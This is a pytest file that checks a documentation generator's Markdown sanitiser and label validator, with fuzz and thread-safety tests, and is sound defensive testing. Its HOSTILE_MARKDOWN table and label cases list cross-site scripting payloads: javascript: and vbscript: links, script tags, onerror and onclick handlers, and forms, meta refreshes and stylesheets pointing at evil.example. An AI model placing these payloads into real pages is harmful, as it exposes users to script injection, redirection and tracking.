"""The one render path for author text: escaped plain text or sanitised Markdown."""

from __future__ import annotations

import re
import sys
import threading
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.text import label_problem, markdown, markdown_inline, plain

HOSTILE_MARKDOWN = {
    "attr_list onerror": "![x](x.png){ onerror=alert(1) }",
    "attr_list onclick": "标题 { onclick=alert(1) }",
    "javascript link": "[点击](javascript:alert(1))",
    "javascript entity link": "[点击](jav&#x61;script:alert(1))",
    "vbscript link": "[点击](vbscript:msgbox(1))",
    "data link": "[点击](data:text/html,<script>alert(1)</script>)",
    "raw script": "<script>alert(1)</script>正文",
    "raw img onerror": '<img src=x onerror="alert(1)">',
    "raw svg": "<svg onload=alert(1)></svg>",
    "raw iframe": '<iframe src="https://example.com"></iframe>',
    "raw style": "<style>body{display:none}</style>",
    "remote image": "![x](http://tracker.example/p.png)",
    "protocol-relative image": "![x](//tracker.example/p.png)",
    "raw remote image": '<img src="https://tracker.example/p.png">',
    "form": '<form action="https://evil.example"><input name=a></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "inline style": '<p style="background:url(https://evil.example/x)">x</p>',
}

SAFE_TAGS = {"p", "br", "strong", "em", "b", "i", "code", "del", "sub", "sup", "ul", "ol", "li"}
SAFE_TAGS |= {"blockquote", "hr", "a", "img", "table", "thead", "tbody", "tr", "th", "td"}
URL_ATTRIBUTES = {"href", "src"}


class TagCollector(HTMLParser):
    """Every real element and attribute in a fragment, as a browser would parse it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))


def assert_inert(html: str) -> None:
    """No unknown element, no event handler or style, no script URL, no remote image."""
    parser = TagCollector()
    parser.feed(html)
    for tag, attrs in parser.tags:
        assert tag in SAFE_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", html
            if name in URL_ATTRIBUTES:
                url = re.sub(r"[\x00-\x20]", "", value or "").lower()
                scheme = re.match(r"^([a-z][a-z0-9+.-]*):", url)
                assert not scheme or scheme.group(1) in {"http", "https", "mailto"}, html
                if tag == "img":
                    assert not scheme and not url.startswith("//"), html


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN.values(), ids=HOSTILE_MARKDOWN.keys())
def test_hostile_markdown_is_inert(text: str) -> None:
    assert_inert(str(markdown(text)))
    assert_inert(str(markdown_inline(text)))


def test_markdown_keeps_what_authors_need() -> None:
    html = str(markdown("**重点**：先*倾听*。\n\n- 一\n- 二\n\n[第 8 章](../chapters/ch08.md)"))
    assert "<strong>重点</strong>" in html
    assert "<em>倾听</em>" in html
    assert "<li>一</li>" in html
    assert 'href="../chapters/ch08.md"' in html
    assert str(markdown_inline("只有**一行**")) == "只有<strong>一行</strong>"


def test_local_image_and_web_link_survive() -> None:
    html = str(markdown("![图](../assets/a.png) [官网](https://example.com)"))
    assert 'src="../assets/a.png"' in html
    assert 'href="https://example.com"' in html
    assert 'rel="noopener noreferrer"' in html


def test_plain_escapes_everything() -> None:
    assert str(plain('<b>"x"</b> & {y}')) == "&lt;b&gt;&#34;x&#34;&lt;/b&gt; &amp; {y}"


@pytest.mark.parametrize(
    ("label", "problem"),
    [
        ("T </title><script>alert(1)</script>", "'<'"),
        ("标题 { onclick=alert(1) }", "'{'"),
        ("A &lt;/title&gt;", "'&lt;'"),
        ("A &#60;", "'&#60;'"),
        ("两行\n标题", "single line"),
    ],
)
def test_labels_reject_markup(label: str, problem: str) -> None:
    message = label_problem(label)
    assert message is not None and problem in message


def test_labels_allow_ordinary_titles() -> None:
    assert label_problem("第 3 章自测：A/B/C 分级 & 客户价值（上）") is None


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *HOSTILE_MARKDOWN.values(),
                "<",
                ">",
                '"',
                "'",
                "=",
                "{",
                "}",
                "[",
                "]",
                "(",
                ")",
                "!",
                "on",
                "error",
                "javascript:",
                "&#",
                "x",
                " ",
                "\n",
                "<a href=",
                "<img src=",
                "客户",
                "*",
                "`",
                "data:",
                "&colon;",
                "java\tscript:",
            ]
        ),
        max_size=12,
    ).map("".join)
)
def test_sanitiser_property_no_script_survives(text: str) -> None:
    assert_inert(str(markdown(text)))


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=200))
def test_sanitiser_property_any_text(text: str) -> None:
    assert_inert(str(markdown(text)))


def test_author_markdown_is_converted_correctly_from_several_threads() -> None:
    """Under ``mkdocs serve`` background threads render author text while a rebuild does."""
    texts = [
        [
            f"第 {worker} 组第 {n} 条：**重点**\n\n- 甲{n}\n- 乙{worker}\n\n| 列 |\n|---|\n| {n} |"
            for n in range(150)
        ]
        for worker in range(6)
    ]
    results: dict[int, list[str]] = {}

    def convert(worker: int) -> None:
        results[worker] = [str(markdown(source)) for source in texts[worker]]

    threads = [threading.Thread(target=convert, args=(worker,)) for worker in range(6)]
    interval = sys.getswitchinterval()
    sys.setswitchinterval(1e-6)  # switch threads often, as a busy server might
    try:
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    finally:
        sys.setswitchinterval(interval)
    for worker, sources in enumerate(texts):
        for source, html in zip(sources, results[worker], strict=True):
            n = source.split("第 ")[2].split(" ")[0]
            assert (
                f"<td>{n}</td>" in html
                and f"乙{worker}" in html
                and "<strong>重点</strong>" in html
            )
            assert html.count("<table>") == 1 and html.count("<ul>") == 1
